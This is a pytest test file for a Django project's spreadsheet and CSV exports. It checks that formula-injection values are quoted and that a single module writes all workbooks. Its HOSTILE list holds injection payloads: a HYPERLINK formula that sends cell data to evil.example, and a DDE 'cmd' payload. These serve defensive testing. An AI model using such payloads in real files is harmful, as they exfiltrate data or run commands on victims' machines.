"""Issue 19, finding 4: no export writes a live formula (core/sheets.py is the one writer)."""

import ast
import csv
import io
from decimal import Decimal
from fractions import Fraction
from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell import WriteOnlyCell

from gongzhi.core import sheets

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
]
ROOT = Path(__file__).resolve().parents[3]


def formula_cells(content: bytes) -> list[str]:
    """Cells a spreadsheet program would evaluate: formulas, or text that starts like one."""
    found = []
    if content[:2] == b"PK":
        book = openpyxl.load_workbook(io.BytesIO(content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f" or sheets.safe(cell.value) != cell.value:
                        found.append(f"{sheet.title}!{cell.coordinate}={cell.value!r}")
        return found
    text = content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        found += [v for v in row if sheets.safe(v) != v]
    return found


def test_safe_quotes_formula_starts_and_leaves_numbers_and_text():
    for value in HOSTILE:
        assert sheets.safe(value) == "'" + value
        assert sheets.unquote(sheets.safe(value)) == value
    for value in ["-5.00", "+3", "1e5", "张三", "", None, 42, "a=b", "'quoted"]:
        assert sheets.safe(value) == value


@pytest.mark.parametrize("write_only", [False, True])
def test_a_workbook_never_saves_a_formula_however_cells_were_written(write_only):
    book = sheets.workbook(write_only=write_only)
    sheet = book.create_sheet("s")
    sheet.append(HOSTILE)
    sheet.append([WriteOnlyCell(sheet, value=v) for v in HOSTILE])
    if not write_only:
        sheet["A5"] = "=1+1"
        sheet.cell(row=6, column=1, value="@x")
        book.active.append(HOSTILE)  # the sheet openpyxl made by itself
    out = io.BytesIO()
    book.save(out)
    content = out.getvalue()
    assert formula_cells(content) == []
    values = [c for s in openpyxl.load_workbook(io.BytesIO(content)).worksheets for r in s.values for c in r]
    assert "'" + HOSTILE[0] in values


def test_the_csv_writer_quotes_every_formula_start():
    out = io.StringIO()
    sheets.csv_writer(out).writerows([HOSTILE, ["-1.5", "张三"]])
    assert formula_cells(out.getvalue().encode()) == []
    assert "-1.5" in out.getvalue()


# --- every export, with a hostile name where a person or an importer can put one ------------------


def test_allocation_csv():
    from gongzhi.projects.allocation import Rule, allocate_csv

    def table(header, value):
        out = io.StringIO()
        csv.writer(out).writerows([header, *([n, value(i)] for i, n in enumerate(HOSTILE[:4], start=1))])
        return out.getvalue()

    rule = Rule(top=1, raise_percent=Decimal(10), bottom=1, cut_percent=Decimal(10))
    content = allocate_csv(table(["org", "score"], str), table(["org", "budget"], lambda i: "100"), rule)
    assert formula_cells(content.encode()) == []
    assert "'=HYPERLINK" in content


def test_workforce_bonus_csv():
    from gongzhi.workforce.bonus import Share, write_shares

    share = Share(HOSTILE[0], HOSTILE[3], Fraction(9, 10), Fraction(1), Decimal("-1.00"))
    content = write_shares([share])
    assert formula_cells(content.encode()) == [] and "'=HYPERLINK" in content


def test_concern_kpi_workbook():
    from datetime import date

    from gongzhi.concerns.exports import kpi_workbook
    from gongzhi.concerns.kpi import KpiRow

    rows = [KpiRow(key=1, label=HOSTILE[0])]
    content = kpi_workbook(rows, KpiRow(key=None, label="合计"), month=date(2026, 11, 1), group="grid")
    assert formula_cells(content) == []


def test_visit_coverage_workbook():
    from datetime import date

    from gongzhi.visits.exports import coverage_workbook

    row = {"label": HOSTILE[0], "total": 1, "visited": 0, "due": 1, "overdue": 0, "rate": 0.0}
    worker = {
        "label": HOSTILE[3],
        "roles": HOSTILE[1],
        "visits": 0,
        "households": 0,
        "target": 1,
        "met": False,
    }
    content = coverage_workbook([row], row, [worker], month=date(2026, 11, 1), months=1, by="grid")
    assert formula_cells(content) == []


@pytest.mark.django_db
def test_ledger_export_and_it_reimports_the_name_as_typed():
    from gongzhi.org import factories as f
    from gongzhi.org.ledger import export_households_xlsx
    from gongzhi.org.tests.fixtures.ledger_files import make_area, sheet_rows

    area = make_area()
    household = f.HouseholdFactory(building=area.building, room="101")
    f.ResidentFactory(household=household, name=HOSTILE[0])
    content = export_households_xlsx(actor=area.users["neighborhood_secretary"])
    assert formula_cells(content) == []
    from gongzhi.org.ledger.reading import _text

    names = [_text(c) for row in sheet_rows(content) for c in row]
    assert HOSTILE[0] in names


@pytest.mark.django_db
def test_survey_export(world):
    from gongzhi.surveys import services
    from gongzhi.surveys import testing as t

    survey = t.courier_survey(world)
    survey.title = HOSTILE[0]
    survey.save()
    data = t.full_answer(survey)
    services.submit_with_token(token=survey.respondents.first().token, data=data)
    content = services.export_xlsx(actor=world.users["social_worker"], survey=survey)
    assert formula_cells(content) == []


@pytest.mark.django_db
def test_review_round_export(world):
    from gongzhi.projects import testing as t
    from gongzhi.projects.services.export import export_round

    mine = t.project(world, HOSTILE[0], state="submitted", budget="10000")
    review_round, _judges = t.review_round(world, [mine], members=1)
    content = export_round(actor=world.users["subdistrict_admin"], review_round=review_round)
    assert formula_cells(content) == []


@pytest.mark.django_db
def test_volunteer_statement(world):
    from gongzhi.volunteers import services
    from gongzhi.volunteers.tests.services.test_points import served

    person, _entry = served(world)
    services.use_banked_hours(
        actor=world.users["social_worker"], volunteer=person, hours="1", memo=HOSTILE[0]
    )
    content = services.export_statement(actor=world.users["neighborhood_secretary"], volunteer=person)
    assert formula_cells(content) == []


@pytest.mark.django_db
def test_the_export_watermark_keeps_cells_text(world):
    from gongzhi.core import exports

    book = sheets.workbook()
    book.active.append([HOSTILE[0]])
    produced = exports.ExportFile(content=sheets.to_bytes(book), filename="x.xlsx")
    lines = {"requester": "=a", "approver": "@b", "purpose": "-c", "request": "1", "time": "t"}
    assert formula_cells(exports.watermark(produced, lines)) == []


# --- the architecture: one writer ------------------------------------------------------------------

WRITER = "gongzhi/core/sheets.py"
# Modules that read workbooks or CSV, or write files that are no export, and why.
ALLOWED = {
    ("gongzhi/surveys/services.py", "load_workbook"),  # reads an uploaded respondent list (read-only)
    ("gongzhi/org/demo/derive_tables.py", "DictWriter"),  # developer tool: the demo's place table
}
FORBIDDEN_NAMES = {"Workbook", "load_workbook", "writer", "DictWriter"}


def _forbidden_uses(path: Path) -> list[tuple[int, str]]:
    """Workbooks created or loaded, csv writers opened: by `from openpyxl import X`,
    `openpyxl.X`, `csv.X`."""
    found = []
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in ("openpyxl", "csv"):
            found += [(node.lineno, a.name) for a in node.names if a.name in FORBIDDEN_NAMES]
        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            if node.value.id in ("openpyxl", "csv") and node.attr in FORBIDDEN_NAMES:
                found.append((node.lineno, node.attr))
    return found


def test_no_module_but_the_writer_creates_a_workbook_or_a_csv_writer():
    offending = []
    for path in sorted((ROOT / "gongzhi").rglob("*.py")):
        name = path.relative_to(ROOT).as_posix()
        if name == WRITER or "/tests/" in name or "/migrations/" in name:
            continue
        for line, what in _forbidden_uses(path):
            if (name, what) not in ALLOWED:
                offending.append(f"{name}:{line} {what}")
    assert not offending, offending


def test_the_architecture_check_sees_each_way_of_writing(tmp_path):
    probe = tmp_path / "probe.py"
    probe.write_text(
        "import csv, openpyxl\nfrom openpyxl import Workbook\n"
        "openpyxl.Workbook()\ncsv.writer(x)\ncsv.DictWriter(x, [])\nopenpyxl.load_workbook(b)\n"
    )
    assert sorted(w for _line, w in _forbidden_uses(probe)) == sorted(
        ["Workbook", "Workbook", "writer", "DictWriter", "load_workbook"]
    )
